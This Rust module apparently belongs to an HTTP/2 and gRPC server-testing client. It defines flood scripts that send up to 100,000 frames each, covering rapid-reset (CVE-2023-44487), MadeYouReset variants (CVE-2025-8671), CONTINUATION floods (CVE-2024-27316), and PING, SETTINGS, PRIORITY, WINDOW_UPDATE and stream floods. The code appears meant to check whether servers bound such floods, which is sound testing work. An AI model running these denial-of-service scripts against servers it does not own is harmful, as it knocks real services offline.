//! One kind of frame or call again and again, until the server closes or the bound is reached.

use std::sync::Arc;

use bytes::BytesMut;

use super::{
    parts::{Row, frame, greet, row},
    request::Request,
};
use crate::{
    client::{
        step::{Flood, Script, Step},
        target::Target,
    },
    frame::{
        CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM,
        SETTINGS, WINDOW_UPDATE, put, put_settings,
    },
};

/// How many parts a flood has at the most: a server that has taken that many has no bound on them.
const MOST: u32 = 100_000;

pub(super) const ROWS: &[Row] = &[
    row("rapid-reset", "calls that are cancelled at once (CVE-2023-44487)", |t, _| {
        calls(t, |stream, out| put(out, RST_STREAM, 0, stream, &CANCEL.to_be_bytes()))
    }),
    row(
        "made-you-reset-window",
        "calls with WINDOW_UPDATE by 0, which the server has to reset (CVE-2025-8671)",
        |t, _| calls(t, |stream, out| put(out, WINDOW_UPDATE, 0, stream, &[0; 4])),
    ),
    row("made-you-reset-overflow", "the same with a window beyond 2^31 - 1", |t, _| {
        open_calls(t, |stream, out| put(out, WINDOW_UPDATE, 0, stream, &[0x7f, 0xff, 0xff, 0xff]))
    }),
    row("made-you-reset-data", "the same with DATA after the request's end", |t, _| {
        calls(t, |stream, out| put(out, DATA, END_STREAM, stream, b"x"))
    }),
    row("made-you-reset-headers", "the same with HEADERS after the request's end", |t, _| {
        let block = Request::grpc(t).block();
        calls(t, move |stream, out| put(out, HEADERS, END_HEADERS | END_STREAM, stream, &block))
    }),
    row("made-you-reset-priority", "the same with a stream that depends on itself", |t, _| {
        open_calls(t, |stream, out| put(out, PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[0]].concat()))
    }),
    row("made-you-reset-length", "the same with PRIORITY of four bytes", |t, _| {
        open_calls(t, |stream, out| put(out, PRIORITY, 0, stream, &[0; 4]))
    }),
    row("continuation-flood", "HEADERS, and CONTINUATIONs of 1 KiB without an end (CVE-2024-27316)", |t, _| {
        headers_and(t, &[0; 1024])
    }),
    row("empty-continuation-flood", "the same with CONTINUATIONs that are empty", |t, _| headers_and(t, b"")),
    row("empty-data-flood", "one call, and empty DATA without an end", |t, _| {
        let open = Request::grpc(t).body(b"").unfinished().frames(1);
        after(open, |_, out| put(out, DATA, 0, 1, b""))
    }),
    row("ping-flood", "PINGs", |_, _| frames(|n, out| put(out, PING, 0, 0, &[n.to_be_bytes(), [0; 4]].concat()))),
    row("settings-flood", "SETTINGS, each of which must be acknowledged", |_, _| {
        frames(|n, out| put_settings(out, &[(INITIAL_WINDOW_SIZE, 65_535 + n % 2)]))
    }),
    row("empty-settings-flood", "SETTINGS with nothing in them", |_, _| frames(|_, out| put(out, SETTINGS, 0, 0, b""))),
    row("priority-flood", "PRIORITYs of streams that were never opened", |_, _| {
        frames(|n, out| put(out, PRIORITY, 0, 2 * (n % 1000) + 3, &[0, 0, 0, 0, 1]))
    }),
    row("window-update-flood", "WINDOW_UPDATEs by 1", |_, _| {
        frames(|_, out| put(out, WINDOW_UPDATE, 0, 0, &1_u32.to_be_bytes()))
    }),
    row("unknown-frame-flood", "frames of a type that there is not", |_, _| {
        frames(|_, out| put(out, 0xbe, 0, 0, b"?"))
    }),
    row("stream-flood", "calls without an end, as many as there are numbers", |t, _| {
        let block = Request::grpc(t).block();
        frames(move |n, out| put(out, HEADERS, END_HEADERS, 2 * n + 1, &block))
    }),
];

/// Frames after a greeting.
fn frames(flood: impl Fn(u32, &mut BytesMut) + Send + Sync + 'static) -> Script {
    after(Vec::new(), flood)
}

/// Frames after a greeting and this.
fn after(begin: Vec<u8>, flood: impl Fn(u32, &mut BytesMut) + Send + Sync + 'static) -> Script {
    let flood = Step::Flood(Flood(Arc::new(flood)), MOST);
    Script::until_end(greet().into_iter().chain([Step::Say(begin), flood]))
}

/// Calls, each followed at once by what is wrong with it.
fn calls(target: &Target, wrong: impl Fn(u32, &mut BytesMut) + Send + Sync + 'static) -> Script {
    begun(target, END_STREAM, wrong)
}

/// The same with calls whose message is still to come.
fn open_calls(target: &Target, wrong: impl Fn(u32, &mut BytesMut) + Send + Sync + 'static) -> Script {
    begun(target, 0, wrong)
}

fn begun(target: &Target, end: u8, wrong: impl Fn(u32, &mut BytesMut) + Send + Sync + 'static) -> Script {
    let block = Request::grpc(target).block();
    frames(move |n, out| {
        put(out, HEADERS, END_HEADERS | end, 2 * n + 1, &block);
        wrong(2 * n + 1, out);
    })
}

fn headers_and(target: &Target, part: &'static [u8]) -> Script {
    let open = frame(HEADERS, END_STREAM, 1, &Request::grpc(target).block());
    after(open, move |_, out| put(out, CONTINUATION, 0, 1, part))
}
